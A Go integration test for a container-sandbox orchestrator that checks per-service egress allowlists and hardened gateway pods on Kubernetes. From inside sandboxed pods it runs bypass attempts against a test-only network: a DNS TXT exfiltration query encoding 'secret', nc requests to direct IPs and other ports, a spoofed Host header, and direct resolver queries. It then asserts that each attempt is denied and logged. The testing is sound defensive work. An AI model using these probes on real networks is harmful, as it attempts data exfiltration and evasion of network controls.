package kubernetes_test

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/composebox/composebox/compose"
	"github.com/composebox/composebox/internal/k8stest"
	"github.com/composebox/composebox/internal/testutil"
	"github.com/composebox/composebox/kubernetes"
	"github.com/composebox/composebox/lifecycle/dockerbackend"
	"github.com/composebox/composebox/orchestrator"
	"github.com/composebox/composebox/orchestrator/backends"
)

// TestEgressAttackerSideOnKubernetes starts one sample whose services have allowlists of their
// own (default: pkgs.test, other: other.test; helper none of its own, so the task's ceiling
// pkgs.test and other.test, on default's network) against a small internet of the test's own, through the orchestrator, and tries every way around the
// list from inside: each is refused, the outside never sees it, and the refusals come back
// both from Egress and as egress_denied events (the gateways' logs followed). The allowed
// paths work, two services with different lists get different answers, siblings still find
// each other by name, and SetEgress opens and closes a name on the live sample but opens
// nothing beyond the ceiling.
func TestEgressAttackerSideOnKubernetes(t *testing.T) {
	inet := testutil.StartSmallInternet(t)
	bin := testutil.StaticComposebox(t)
	env := k8stest.Load(t)
	testutil.Docker(t)
	imgs, err := dockerbackend.FromEnv(dockerbackend.Options{EgressBinary: bin})
	if err != nil {
		t.Fatal(err)
	}
	var dns []string
	if env.DNS != "" {
		dns = []string{env.DNS}
	}
	b, err := backends.Kubernetes(kubernetes.Options{Config: env.ServiceAccount(t), Registry: env.Registry, DNS: dns,
		VolumeRoot: env.Volumes, Images: imgs, Docker: imgs.Client()})
	if err != nil {
		_ = imgs.Close()
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = b.Close() })

	var mu sync.Mutex
	var events []orchestrator.Event
	seenEvent := make(chan struct{}, 1)
	o, err := orchestrator.New(orchestrator.WithBackend(b), orchestrator.WithStateDir(t.TempDir()),
		orchestrator.WithObserver(func(ev orchestrator.Event) {
			if ev.Kind != orchestrator.EventEgressDenied {
				return
			}
			mu.Lock()
			events = append(events, ev)
			mu.Unlock()
			select {
			case seenEvent <- struct{}{}:
			default:
			}
		}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = o.Close() })
	pol := compose.DefaultPolicy()
	pol.EgressResolver = inet.Addr(53)
	// The task's ceiling: the files' lists are within it, and a later SetEgress must be too.
	pol.Egress = []string{"pkgs.test", "other.test"}
	task := taskInit(t, o, orchestrator.TaskSpec{Name: uniqueTask("egress"), Policy: &pol, YAML: []byte(`
services:
  default:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["tail", "-f", "/dev/null"]
    x-egress: [pkgs.test]
  other:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["tail", "-f", "/dev/null"]
    x-egress: [other.test]
  helper:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["tail", "-f", "/dev/null"]
`)})
	start := time.Now()
	s := sampleInit(t, task, orchestrator.SampleSpec{})
	t.Logf("sample with two egress gateways up in %s", time.Since(start).Round(time.Millisecond))
	ctx := t.Context()

	// The gateways are locked down like the sample's pods, and more.
	gws, err := b.Clientset().CoreV1().Pods(s.Project()).List(ctx, metav1.ListOptions{LabelSelector: "composebox.dev/egress-gateway"})
	if err != nil {
		t.Fatal(err)
	}
	// default's, other's, and helper's: without an x-egress of its own, helper has the
	// task's ceiling as its list.
	if len(gws.Items) != 3 {
		t.Fatalf("%d egress gateways, want one per allowlist (3)", len(gws.Items))
	}
	for _, gw := range gws.Items {
		sc := gw.Spec.Containers[0].SecurityContext
		if gw.Spec.AutomountServiceAccountToken == nil || *gw.Spec.AutomountServiceAccountToken || sc == nil || sc.RunAsNonRoot == nil || !*sc.RunAsNonRoot ||
			sc.Capabilities == nil || !slices.Equal(sc.Capabilities.Drop, []corev1.Capability{"ALL"}) || len(sc.Capabilities.Add) > 0 {
			t.Errorf("gateway %s not locked down: token %v, security context %+v", gw.Name, gw.Spec.AutomountServiceAccountToken, sc)
		}
	}

	run := func(service, script string) string {
		t.Helper()
		sb, err := s.Sandbox(service)
		if err != nil {
			t.Fatal(err)
		}
		res, err := sb.Exec(ctx, orchestrator.ExecRequest{Cmd: []string{"sh", "-c", script}, Timeout: 45 * time.Second})
		if err != nil {
			t.Fatalf("exec in %s: %v", service, err)
		}
		return string(res.Stdout) + string(res.Stderr)
	}
	get := func(service, host, at, path string) string {
		return run(service, fmt.Sprintf(`printf 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 2>&1`, path, host, at))
	}

	if got := get("default", "pkgs.test", "pkgs.test 80", "/allowed"); !strings.Contains(got, "pkgs /allowed") {
		t.Fatalf("the allowed name over HTTP through the gateway: %q", got)
	}
	if got := run("default", "nslookup other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("a name not on default's list resolved: %q", got)
	}
	if got := run("default", "nslookup -type=TXT c2VjcmV0.exfil.other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("TXT for a subdomain of a non-listed name: %q", got)
	}
	if got := run("default", "nslookup pkgs.test "+inet.Addr(53)); strings.Contains(got, inet.Addr(2)) {
		t.Errorf("a direct query to the outside resolver was answered: %q", got)
	}
	if got := get("default", "other.test", "pkgs.test 80", "/host-header"); !strings.Contains(got, "403") || strings.Contains(got, "other /") {
		t.Errorf("Host of a non-listed name: %q", got)
	}
	if got := get("default", "pkgs.test", inet.Addr(2)+" 80", "/direct-ip"); strings.Contains(got, "pkgs /") {
		t.Errorf("a direct connection to the allowed name's address: %q", got)
	}
	if got := get("default", "pkgs.test", "pkgs.test 8080", "/other-port"); strings.Contains(got, "pkgs8080") {
		t.Errorf("the allowed name on another port: %q", got)
	}
	if got := get("default", "pkgs.test", inet.Addr(2)+" 8080", "/other-port-direct"); strings.Contains(got, "pkgs8080") {
		t.Errorf("the allowed name's address on another port: %q", got)
	}
	run("default", "nslookup -port=443 pkgs.test "+inet.Addr(2)+"; nslookup pkgs.test "+inet.Addr(2))
	if env.DNS != "" {
		// The cluster's DNS answers the cluster's names, and forwards others where it is set
		// up to: a restricted pod must not reach it but through its gateway.
		if got := run("default", "nslookup kubernetes.default.svc.cluster.local "+env.DNS); strings.Contains(got, "Name:") {
			t.Errorf("the cluster DNS answered a restricted pod directly: %q", got)
		}
	}
	if got := run("default", "nslookup kubernetes.default.svc.cluster.local"); strings.Contains(got, "Name:") {
		t.Errorf("a name outside the sample's namespace resolved through the gateway: %q", got)
	}
	for _, pair := range [][2]string{{"default", "helper"}, {"helper", "default"}} {
		// A search suffix the name is not under may still answer NXDOMAIN beside the answer.
		if got := run(pair[0], "nslookup "+pair[1]); !strings.Contains(got, "Name:\t"+pair[1]+"."+s.Project()+".svc.cluster.local") {
			t.Errorf("%s no longer finds %s by name: %q", pair[0], pair[1], got)
		}
	}
	// helper shares default's network, which is internal now: it is no way around the list.
	if got := run("helper", fmt.Sprintf(`printf 'GET /via-helper HTTP/1.1\r\nHost: pkgs.test\r\nConnection: close\r\n\r\n' | nc -w 5 %s 80 2>&1`, inet.Addr(2))); strings.Contains(got, "pkgs /") {
		t.Errorf("helper, on the restricted service's network, reached the outside: %q", got)
	}

	queries, hits, udp := inet.Seen()
	for _, q := range queries {
		if strings.Contains(q, "other.test") || strings.Contains(q, "cluster.local") {
			t.Errorf("the outside resolver saw %q", q)
		}
	}
	for _, h := range hits {
		if !strings.HasSuffix(h, "/allowed") {
			t.Errorf("the outside served %q", h)
		}
	}
	if udp != 0 {
		t.Errorf("%d UDP datagrams reached the outside", udp)
	}

	// Per-service lists: other's gateway resolves what default's refuses, and the reverse.
	if got := get("other", "other.test", "other.test 80", "/other-allowed"); !strings.Contains(got, "other /other-allowed") {
		t.Errorf("other's own allowed name: %q", got)
	}
	if got := run("other", "nslookup pkgs.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("default's name resolved for other: %q", got)
	}

	st, err := s.Egress(ctx)
	if err != nil {
		t.Fatalf("egress: %v", err)
	}
	want := map[string]bool{"dns other.test": false, "dns c2vjcmv0.exfil.other.test": false, "http other.test": false}
	for _, d := range st.Denials {
		if _, ok := want[d.Protocol+" "+d.Name]; ok && d.Service == "default" {
			want[d.Protocol+" "+d.Name] = true
		}
	}
	for k, seen := range want {
		if !seen {
			t.Errorf("Egress: no denial %s from service default; denials: %+v", k, st.Denials)
		}
	}
	if !slices.ContainsFunc(st.Denials, func(d orchestrator.EgressDenial) bool { return d.Service == "other" && d.Name == "pkgs.test" }) {
		t.Errorf("Egress: no denial of pkgs.test from service other: %+v", st.Denials)
	}
	if got := st.Services; !slices.Equal(got["default"], []string{"pkgs.test"}) || !slices.Equal(got["other"], []string{"other.test"}) {
		t.Errorf("allowlists = %v", got)
	}
	// The followed log: the orchestrator's egress_denied events.
	deadline := time.NewTimer(time.Minute)
	defer deadline.Stop()
	for {
		mu.Lock()
		got := slices.ContainsFunc(events, func(ev orchestrator.Event) bool {
			return ev.Denial != nil && ev.Denial.Service == "default" && ev.Denial.Name == "c2vjcmv0.exfil.other.test"
		})
		n := len(events)
		mu.Unlock()
		if got {
			break
		}
		select {
		case <-seenEvent:
		case <-deadline.C:
			t.Fatalf("no egress_denied event for default's TXT query within a minute (%d events)", n)
		}
	}

	// SetEgress opens a name on the live sample, and closes every one.
	if err := s.SetEgress(ctx, "pkgs.test", "other.test"); err != nil {
		t.Fatalf("set egress: %v", err)
	}
	if got := get("default", "other.test", "other.test 80", "/opened"); !strings.Contains(got, "other /opened") {
		t.Errorf("after SetEgress pkgs.test other.test, other.test from default: %q", got)
	}
	if err := s.SetEgress(ctx); err != nil {
		t.Fatalf("set egress (close): %v", err)
	}
	if got := get("default", "pkgs.test", "pkgs.test 80", "/closed"); strings.Contains(got, "pkgs /closed") {
		t.Errorf("after closing, the name was still reached: %q", got)
	}
	if st, err := s.Egress(ctx); err != nil || st.Allow == nil || len(st.Allow) != 0 || !slices.Equal(st.Ceiling, pol.Egress) {
		t.Errorf("Egress after closing: allow %v, ceiling %v, err %v", st.Allow, st.Ceiling, err)
	}
	// Beyond the task's --egress: refused, naming the flag, and the list stays closed.
	var pe *compose.PolicyError
	if err := s.SetEgress(ctx, "third.test"); !errors.As(err, &pe) || !strings.Contains(err.Error(), "--egress third.test") {
		t.Errorf("SetEgress beyond the ceiling = %v, want a policy violation naming --egress third.test", err)
	}
	_, hits, _ = inet.Seen()
	if slices.ContainsFunc(hits, func(h string) bool { return strings.HasSuffix(h, "/closed") }) {
		t.Errorf("the outside served a request after the list was closed: %v", hits)
	}
}
